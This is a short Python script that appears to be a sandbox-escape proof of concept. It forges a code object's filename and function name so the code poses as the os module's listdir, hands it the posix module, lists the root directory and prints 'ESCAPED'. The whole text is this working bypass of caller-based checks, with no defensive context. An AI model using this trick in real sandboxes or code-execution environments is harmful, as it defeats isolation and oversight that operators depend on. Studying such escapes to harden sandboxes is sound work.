import sys, types
def f():
    return posix.listdir("/")
code = f.__code__.replace(co_filename=sys.modules["os"].__file__, co_name="listdir")
print("ESCAPED", types.FunctionType(code, {"__name__": "os", "posix": sys.modules["posix"]})())
